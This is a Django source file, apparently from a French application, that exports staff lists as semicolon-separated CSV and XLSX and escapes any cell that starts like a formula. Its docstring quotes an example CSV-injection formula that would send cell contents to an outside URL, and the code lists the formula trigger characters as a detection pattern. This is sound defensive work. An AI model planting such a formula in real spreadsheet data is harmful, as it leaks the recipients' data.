"""Staff exports (CSV, XLSX) that French Excel opens as they are, and that no spreadsheet runs as formulas.

French Excel splits a CSV on « ; » and reads it as Windows-1252 unless it starts with a UTF-8 BOM:
the CSV has both. Headers are the fields' French names, values their labels (« Apprentissage »,
« Validée définitivement », « Oui »/« Non »), and the file is named after the list and the day
(« inscriptions-2026-12-01.csv »).

A candidate types their own name: `=HYPERLINK("http://…"&C2,"x")` in it would become a live
formula in the rectorate's spreadsheet (CSV injection, OWASP). django-import-export's
`IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT` is not used: it strips one leading "=" (so "==…"
stays a formula and the name is changed), leaves "+…", "-…" and "@…" live in CSV, and turns
every cell into text, an empty one into "None".
"""

from django.core.exceptions import PermissionDenied
from django.db import models
from django.utils import timezone
from django.utils.text import capfirst, slugify
from django.utils.translation import gettext_lazy as _
from import_export import resources, widgets
from import_export.admin import ExportMixin
from import_export.formats.base_formats import CSV, XLSX
from import_export.forms import SelectableFieldsExportForm
from tablib.formats._xlsx import XLSXFormat

# What makes a spreadsheet read a CSV cell as a formula (OWASP, "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def csv_safe(value):
    """Text that starts like a formula gets a leading apostrophe: the spreadsheet shows it as text."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class YesNoWidget(widgets.Widget):
    """« Oui », « Non », or nothing when unanswered, in CSV and XLSX alike."""

    def render(self, value, obj=None, **kwargs):
        return "" if value is None else str(_("Oui") if value else _("Non"))


class ChoiceLabelWidget(widgets.Widget):
    """A choice's label (« Apprentissage »), not its code (`apprentissage`)."""

    def __init__(self, choices, **kwargs):
        self.labels = dict(choices)
        super().__init__(**kwargs)

    def render(self, value, obj=None, **kwargs):
        return str(self.labels.get(value, value or ""))


class FrenchModelResource(resources.ModelResource):
    """A model's columns headed with their French names (`verbose_name`), choices and booleans in words."""

    @classmethod
    def field_from_django_field(cls, field_name, django_field, readonly):
        field = super().field_from_django_field(field_name, django_field, readonly)
        field.column_name = capfirst(str(django_field.verbose_name))
        if django_field.choices:
            field.widget = ChoiceLabelWidget(django_field.flatchoices)
        elif isinstance(django_field, models.BooleanField):
            field.widget = YesNoWidget()
        elif isinstance(django_field, models.DateTimeField):
            field.widget = widgets.DateTimeWidget(format="%d/%m/%Y %H:%M")  # in CSV; XLSX keeps native dates
        return field


class FrenchFieldsExportForm(SelectableFieldsExportForm):
    """The export page lists the columns by their French headers, not « Pathway (voie de préparation) »,
    and names the formats in words, CSV chosen (no « --- » to pick first)."""

    def _init_formats(self, formats):
        super()._init_formats(formats)
        self.fields["format"].choices = [(str(i), format_class.label) for i, format_class in enumerate(formats)]
        self.fields["format"].initial = "0"

    def _get_field_label(self, resource, field_name):
        field = resource.fields.get(field_name)
        return str(field.column_name) if field else field_name


class FormulaSafeCSV(CSV):
    """Cells made safe, separated by « ; », after a UTF-8 BOM: what French Excel opens in columns."""

    label = _("CSV (séparateur « ; », pour Excel)")

    def export_data(self, dataset, **kwargs):
        safe = dataset.__class__(*([csv_safe(value) for value in row] for row in dataset), headers=dataset.headers,
                                 title=dataset.title)
        return "\ufeff" + super().export_data(safe, delimiter=";", **kwargs)


class _TextCellsXLSXFormat(XLSXFormat):
    """tablib's XLSX writer, except that text stays text: openpyxl makes a formula of any text
    that starts with "=", so such a cell is written back as a string (shown as typed, never run)."""

    @classmethod
    def dset_sheet(cls, dataset, ws, freeze_panes=True, escape=False):
        super().dset_sheet(dataset, ws, freeze_panes=freeze_panes, escape=False)
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
                    cell.quotePrefix = True  # and it stays text if staff edit the cell


class FormulaSafeXLSX(XLSX):
    label = _("Classeur Excel (XLSX)")

    def export_data(self, dataset, **kwargs):
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        # Control characters openpyxl refuses (a pasted name can hold one) become "�", as the
        # library's IMPORT_EXPORT_ESCAPE_ILLEGAL_CHARS_ON_EXPORT does.
        clean = dataset.__class__(*([ILLEGAL_CHARACTERS_RE.sub("\N{REPLACEMENT CHARACTER}", v) if isinstance(v, str) else v
                                     for v in row] for row in dataset), headers=dataset.headers, title=dataset.title)
        return _TextCellsXLSXFormat.export_set(clean)


class FormulaSafeExportMixin(ExportMixin):
    """ExportMixin offering only the two formats above, with French column names and a French file name."""

    export_form_class = FrenchFieldsExportForm
    to_encoding = "utf-8"

    def get_export_formats(self):
        return [FormulaSafeCSV, FormulaSafeXLSX]

    def get_export_filename(self, request, queryset, file_format):
        name = slugify(str(self.model._meta.verbose_name_plural))
        return f"{name}-{timezone.localdate():%Y-%m-%d}.{file_format.get_extension()}"

    def get_export_data(self, file_format, request, queryset, **kwargs):
        # As the library's, except that it keeps native numbers and dates for XLSX only when the
        # format is its own class (`type(file_format) in BINARY_FORMATS`), not a subclass.
        if not self.has_export_permission(request):
            raise PermissionDenied
        data = self.get_data_for_export(request, queryset, force_native_type=file_format.is_binary(), **kwargs)
        export_data = file_format.export_data(data)
        encoding = kwargs.get("encoding")
        if not file_format.is_binary() and encoding:
            export_data = export_data.encode(encoding)
        return export_data
